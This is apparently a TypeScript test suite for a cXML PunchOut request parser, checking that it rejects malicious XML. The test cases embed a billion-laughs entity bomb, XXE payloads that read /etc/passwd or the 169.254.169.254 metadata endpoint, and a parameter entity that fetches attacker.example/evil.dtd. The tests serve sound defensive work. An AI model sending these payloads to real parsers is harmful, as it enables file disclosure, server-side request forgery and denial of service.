import t from 'tap'
import { decodeXmlBody } from '../../../src/protocols/cxml/decode.ts'
import { parseCxmlRequest } from '../../../src/protocols/cxml/parse.ts'
import type { PunchOutSetupRequest } from '../../../src/protocols/cxml/types.ts'
import { assertRefused, cxmlDoc, HEADER } from './helpers.ts'

const parse = (xml: string | Buffer, contentType?: string) => parseCxmlRequest(typeof xml === 'string' ? Buffer.from(xml, 'utf8') : xml, contentType)
const setupOf = (xml: string | Buffer, contentType?: string): PunchOutSetupRequest => {
  const { request } = parse(xml, contentType)
  if (request.kind !== 'PunchOutSetupRequest') throw new Error(`expected a setup request, got ${request.kind}`)
  return request
}
const withDoctype = (subset: string, body = '<cXML payloadID="p" timestamp="t">&x;</cXML>') => `<?xml version="1.0"?>\n<!DOCTYPE cXML [\n${subset}\n]>\n${body}`

t.test('A1 xml-billion-laughs: entity declarations (the bomb, A3 and A4 external entities, parameter entities) are refused before parsing', async (t) => {
  const billionLaughs = withDoctype(
    ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`)].join('\n'),
    '<cXML payloadID="p" timestamp="t">&lol9;</cXML>',
  )
  const cases: Array<[string, string]> = [
    ['billion laughs', billionLaughs],
    ['external entity (file)', withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">')],
    ['external entity (http)', withDoctype('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">')],
    ['parameter entity', withDoctype('<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;', '<cXML payloadID="p" timestamp="t"/>')],
    ['entity inside a SYSTEM DOCTYPE subset', '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [<!ENTITY x "y">]><cXML payloadID="p" timestamp="t">&x;</cXML>'],
    ['lower-case declaration', withDoctype('<!entity x "y">')],
  ]
  for (const [name, xml] of cases) assertRefused(t, () => parse(xml), 'PG_ERR_CXML_ENTITY', /entit/i, name)
  assertRefused(t, () => parse(withDoctype('<!ELEMENT cXML ANY>', '<cXML payloadID="p" timestamp="t"/>')), 'PG_ERR_CXML_ENTITY', /internal subset/, 'internal subset without entities')
})

t.test('A5 xml-dtd-url-not-fetched: the public DOCTYPE is accepted and never fetched (parser)', async (t) => {
  // An unroutable SYSTEM URL: if anything fetched it, the parse would hang or fail.
  const doc = cxmlDoc().replace(/SYSTEM "[^"]*"/, 'SYSTEM "http://10.255.255.1/cXML.dtd"')
  t.equal(parse(doc).request.kind, 'PunchOutSetupRequest')
  const noDoctype = cxmlDoc().replace(/<!DOCTYPE[^>]*>/, '')
  t.equal(parse(noDoctype).request.kind, 'PunchOutSetupRequest')
})

t.test('A9 xml-proto-tags: prototype pollution through element names', async (t) => {
  for (const name of ['__proto__', 'constructor']) {
    const xml = cxmlDoc({ request: `<PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie><${name}><polluted>yes</polluted></${name}></PunchOutSetupRequest>` })
    assertRefused(t, () => parse(xml), 'PG_ERR_CXML_MALFORMED', new RegExp(`"${name}" is not allowed`), `<${name}>`)
    const root = `<?xml version="1.0"?><${name} payloadID="p" timestamp="t"><polluted>yes</polluted></${name}>`
    assertRefused(t, () => parse(root), 'PG_ERR_CXML_MALFORMED', undefined, `root <${name}>`)
  }
  // Attributes named __proto__ are renamed by the parser and simply ignored.
  t.equal(parse(cxmlDoc({ rootAttrs: 'payloadID="p" timestamp="t" __proto__="x" constructor="y"' })).envelope.payloadID, 'p')
  t.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype untouched')
  t.equal(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted'), false)
})

t.test('A13 xml-deep-nesting: deep nesting is bounded', async (t) => {
  const deep = cxmlDoc({ request: `<PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie><Extrinsic name="x">${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</Extrinsic></PunchOutSetupRequest>` })
  const started = Date.now()
  assertRefused(t, () => parse(deep), 'PG_ERR_CXML_MALFORMED', /nested more than 64 levels/)
  t.ok(Date.now() - started < 2000, 'refused quickly')
})

t.test('A10 xml-malformed: malformed bodies', async (t) => {
  const cases: Array<[string, string | Buffer, RegExp]> = [
    ['unclosed tag', cxmlDoc().replace('</BrowserFormPost>', ''), /not well-formed XML: an invalid, unclosed or mismatched tag at line \d+, column \d+/],
    ['two roots', `${cxmlDoc()}<cXML payloadID="q" timestamp="t"/>`, /exactly one root element/],
    ['two different roots', '<cXML payloadID="p" timestamp="t"/><Other/>', /exactly one root element/],
    ['root not cXML', '<?xml version="1.0"?><Envelope payloadID="p" timestamp="t"/>', /root element is <Envelope>/],
    ['truncated', cxmlDoc().slice(0, 300), /not well-formed XML/],
    ['BOM + junk', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('this is not xml at all')]), /not well-formed XML/],
    ['empty body', Buffer.alloc(0), /body is empty/],
    ['whitespace body', '  \r\n ', /body is empty/],
    ['text after root', `${cxmlDoc()}trailing`, /not well-formed XML/],
    ['duplicate attribute', cxmlDoc({ rootAttrs: 'payloadID="a" payloadID="b" timestamp="t"' }), /invalid or duplicated attribute at line \d+/],
    ['bare ampersand', cxmlDoc().replace('cookie-1', 'a & b'), /not well-formed XML/],
  ]
  for (const [name, body, message] of cases) assertRefused(t, () => parse(body), 'PG_ERR_CXML_MALFORMED', message, name)
})

t.test('A11 xml-comment-split-identity: comment and CDATA splits: the full text is the value', async (t) => {
  const header = HEADER.replace('<Identity>buyer-anid</Identity></Credential></From>', '<Identity>acme<!---->-evil</Identity></Credential></From>')
    .replace('<Identity>buyer-anid</Identity><SharedSecret>s3cret</SharedSecret>', '<Identity>buy<![CDATA[er]]>1</Identity><SharedSecret>ab<!-- x -->cd<![CDATA[ef]]></SharedSecret>')
  const doc = parse(cxmlDoc({ header }))
  t.equal(doc.envelope.header.from[0]!.identity, 'acme-evil')
  t.equal(doc.envelope.header.sender[0]!.identity, 'buyer1')
  t.equal(doc.envelope.header.sender[0]!.sharedSecret, 'abcdef')
  const url = setupOf(cxmlDoc({ request: '<PunchOutSetupRequest operation="create"><BuyerCookie>c<!-- -->ook<![CDATA[ie]]></BuyerCookie><BrowserFormPost><URL>https://buyer.example<!-- x -->/return</URL></BrowserFormPost></PunchOutSetupRequest>' }))
  t.equal(url.browserFormPostUrl, 'https://buyer.example/return')
  t.equal(url.buyerCookie, 'cookie')
})

t.test('A12 xml-duplicate-sender: duplicated singular elements are refused (no first-one-wins)', async (t) => {
  const sender = /<Sender>[\s\S]*<\/Sender>/.exec(HEADER)![0]
  const cases: Array<[string, string, RegExp]> = [
    ['two Sender', cxmlDoc({ header: HEADER.replace(sender, sender + sender) }), /Header\/Sender appears twice; a cXML document has exactly one/],
    ['two Header', cxmlDoc({ header: HEADER + HEADER }), /cXML\/Header appears twice/],
    ['two From', cxmlDoc({ header: HEADER.replace(/(<From>.*<\/From>)/, '$1$1') }), /Header\/From appears twice/],
    ['two Request', cxmlDoc({ body: '<Request><ProfileRequest/></Request><Request><ProfileRequest/></Request>' }), /cXML\/Request appears twice/],
    ['two SharedSecret', cxmlDoc({ header: HEADER.replace('<SharedSecret>s3cret</SharedSecret>', '<SharedSecret>a</SharedSecret><SharedSecret>b</SharedSecret>') }), /SharedSecret appears twice/],
    ['two Identity', cxmlDoc({ header: HEADER.replace('<Identity>123456789</Identity>', '<Identity>1</Identity><Identity>2</Identity>') }), /Identity appears twice/],
    [
      'two From credentials with one domain (case differs)',
      cxmlDoc({ header: HEADER.replace('<From>', '<From><Credential domain="networkid"><Identity>victim-anid</Identity></Credential>') }),
      /Header\/From has two Credential elements with domain "NetworkID"/,
    ],
    ['two BrowserFormPost', cxmlDoc({ request: '<PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie><BrowserFormPost><URL>https://a</URL></BrowserFormPost><BrowserFormPost><URL>https://b</URL></BrowserFormPost></PunchOutSetupRequest>' }), /BrowserFormPost appears twice/],
    ['two URL', cxmlDoc({ request: '<PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie><BrowserFormPost><URL>https://a</URL><URL>https://b</URL></BrowserFormPost></PunchOutSetupRequest>' }), /BrowserFormPost\/URL appears twice/],
    ['Identity with elements', cxmlDoc({ header: HEADER.replace('<Identity>123456789</Identity>', '<Identity>1<x/></Identity>') }), /Identity must be plain text/],
  ]
  for (const [name, xml, message] of cases) assertRefused(t, () => parse(xml), 'PG_ERR_CXML_INVALID', message, name)
})

t.test('A7 xml-numeric-ref-out-of-range: character references', async (t) => {
  const request = setupOf(cxmlDoc({ request: '<PunchOutSetupRequest operation="create"><BuyerCookie>c</BuyerCookie><Extrinsic name="Address">Line1&#xD;&#10;Line2 &#65;&#x42; &lt;&amp;&gt;</Extrinsic><Extrinsic name="Big">x&#9999999;y</Extrinsic></PunchOutSetupRequest>' }))
  t.equal(request.extrinsics[0]!.value, 'Line1\r\nLine2 AB <&>')
  t.equal(request.extrinsics[1]!.name, 'Big', 'out-of-range reference does not crash')
  t.notMatch(request.extrinsics[1]!.value, /\uFFFD{2}/, 'no garbage expansion')
})

t.test('A14 xml-wrong-encoding: encodings', async (t) => {
  const latin1Doc = (encoding: string | undefined, cookie: string) => {
    const decl = encoding === undefined ? '<?xml version="1.0"?>' : `<?xml version="1.0" encoding="${encoding}"?>`
    return cxmlDoc({ request: `<PunchOutSetupRequest operation="create"><BuyerCookie>${cookie}</BuyerCookie></PunchOutSetupRequest>` }).replace(/^<\?xml[^>]*\?>/, decl)
  }
  const iso = Buffer.from(latin1Doc('ISO-8859-1', 'Müller Straße Größe'), 'latin1')
  t.equal(setupOf(iso).buyerCookie, 'Müller Straße Größe', 'ISO-8859-1 umlauts')
  const cp1252 = Buffer.concat([Buffer.from(latin1Doc('windows-1252', 'Preis: 5 ').split('Preis: 5 ')[0]!, 'latin1'), Buffer.from([0x50, 0x72, 0x65, 0x69, 0x73, 0x3a, 0x20, 0x35, 0x20, 0x80, 0x20, 0xe4]), Buffer.from(latin1Doc('windows-1252', 'Preis: 5 ').split('Preis: 5 ')[1]!, 'latin1')])
  t.equal(setupOf(cp1252).buyerCookie, 'Preis: 5 € ä', 'windows-1252 € is 0x80')
  t.equal(setupOf(Buffer.from(latin1Doc('utf-8', 'Grüße €'), 'utf8')).buyerCookie, 'Grüße €', 'lower-case utf-8 label')

  // No declared encoding: the Content-Type charset decides, else UTF-8.
  const undeclared = Buffer.from(latin1Doc(undefined, 'Müller'), 'latin1')
  t.equal(setupOf(undeclared, 'text/xml; charset="ISO-8859-1"').buyerCookie, 'Müller', 'Content-Type charset used')
  assertRefused(t, () => parse(undeclared, 'text/xml'), 'PG_ERR_CXML_ENCODING', /not valid UTF-8/, 'latin1 bytes read as UTF-8 default')
  t.equal(setupOf(Buffer.from(latin1Doc(undefined, 'Grüße'), 'utf8'), 'application/xml').buyerCookie, 'Grüße', 'UTF-8 default')
  // The declaration wins over the header.
  t.equal(setupOf(iso, 'text/xml; charset=utf-8').buyerCookie, 'Müller Straße Größe', 'declaration before Content-Type')

  assertRefused(t, () => parse(Buffer.from(latin1Doc('UTF-16', 'abc'), 'utf8')), 'PG_ERR_CXML_ENCODING', /UTF-16.*8-bit/, 'UTF-16 declared, UTF-8 body')
  assertRefused(t, () => parse(Buffer.from(latin1Doc('UTF-8', 'M\u00fcller'), 'latin1')), 'PG_ERR_CXML_ENCODING', /not valid UTF-8/, 'invalid UTF-8')
  assertRefused(t, () => parse(Buffer.from(latin1Doc('EBCDIC-XYZ', 'a'), 'latin1')), 'PG_ERR_CXML_ENCODING', /"EBCDIC-XYZ", which is not supported/, 'unknown label')
  assertRefused(t, () => parse(Buffer.from(latin1Doc(undefined, 'a'), 'latin1'), 'text/xml; charset=klingon'), 'PG_ERR_CXML_ENCODING', /Content-Type.*"klingon"/, 'unknown Content-Type charset')
  for (const label of ['constructor', '__proto__', 'toString']) {
    assertRefused(t, () => parse(Buffer.from(latin1Doc(label, 'a'), 'latin1')), 'PG_ERR_CXML_ENCODING', new RegExp(`"${label}", which is not supported`), `label ${label}`)
  }
  assertRefused(t, () => parse(Buffer.from(latin1Doc('US-ASCII', 'M\u00fcller'), 'latin1')), 'PG_ERR_CXML_ENCODING', /US-ASCII/, 'non-ASCII byte in US-ASCII')

  // UTF-16 with BOM (both byte orders), and BE without BOM.
  const utf16Text = latin1Doc('UTF-16', 'Grüße €')
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(utf16Text, 'utf16le')])
  t.equal(setupOf(le).buyerCookie, 'Grüße €', 'UTF-16LE with BOM')
  const be = Buffer.from(utf16Text, 'utf16le').swap16()
  t.equal(setupOf(Buffer.concat([Buffer.from([0xfe, 0xff]), be])).buyerCookie, 'Grüße €', 'UTF-16BE with BOM')
  t.equal(setupOf(be).buyerCookie, 'Grüße €', 'UTF-16BE without BOM (byte pattern)')
  assertRefused(t, () => parse(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>', 'utf16le'), Buffer.from([0x00, 0xd8, 0x41, 0x00])])), 'PG_ERR_CXML_ENCODING', /UTF-16LE/, 'lone surrogate in UTF-16')

  // BOM is stripped.
  const bom = decodeXmlBody(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a/>')]))
  t.equal(bom, '<a/>')
  t.equal(setupOf(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(cxmlDoc(), 'utf8')])).buyerCookie, 'cookie-1', 'UTF-8 BOM document parses')
})
